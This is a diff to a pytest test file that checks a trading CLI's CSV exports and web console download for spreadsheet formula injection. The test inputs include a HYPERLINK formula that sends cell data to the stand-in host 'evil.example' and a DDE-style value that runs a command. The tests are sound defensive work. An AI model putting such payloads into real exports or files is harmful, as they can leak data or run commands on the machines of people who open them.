@@ -3,11 +3,15 @@ exit code, never a traceback; files are neither created nor overwritten unasked.
 
 from __future__ import annotations
 
+import csv
+import io
 import os
 
 import pytest
+from starlette.testclient import TestClient
 
 from tests.cli.conftest import Cli, one_line_error
+from tests.console.conftest import console_for
 
 
 def test_a_config_file_that_is_not_text_or_is_a_folder_is_named(cli: Cli) -> None:
@@ -105,3 +109,36 @@ def test_paper_cash_at_the_bound_is_planned_without_a_crash(ready: Cli) -> None:
     done = ready("run", "--mode", "paper", code=1)  # the risk limits refuse such a plan
     assert "GuardRejected" in done.stdout
     assert "StepCrashed" not in done.stdout
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+
+
+def _csv_cells(text: str) -> list[str]:
+    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+
+
+def _refused_by(cli: Cli, *actors: str) -> None:
+    cli("db", "upgrade")
+    for actor in actors:
+        cli("run", "--mode", "live", code=1, env_extra={"TRADEFSM_ACTOR": actor})
+
+
+def test_csv_exports_neutralise_formulas(cli: Cli) -> None:
+    actors = (FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1")
+    _refused_by(cli, *actors)
+    for command in (("audit", "rejected"), ("audit", "transitions"), ("runs", "list")):
+        cells = _csv_cells(cli(*command, "--format", "csv").stdout)
+        assert not any(c[:1] in ("=", "+", "@", "\t") for c in cells)
+        if command[0] == "audit":
+            assert {"'" + actor for actor in actors} <= set(cells)
+    numbers = cli("audit", "time-in-state", "--format", "csv").stdout
+    assert "'" not in numbers
+
+
+def test_the_console_csv_download_neutralises_formulas(cli: Cli) -> None:
+    _refused_by(cli, FORMULA)
+    client = TestClient(console_for(cli.env["TRADEFSM_DB"]).app())
+    cells = _csv_cells(client.get("/refused?format=csv").text)
+    assert "'" + FORMULA in cells
+    assert FORMULA not in cells
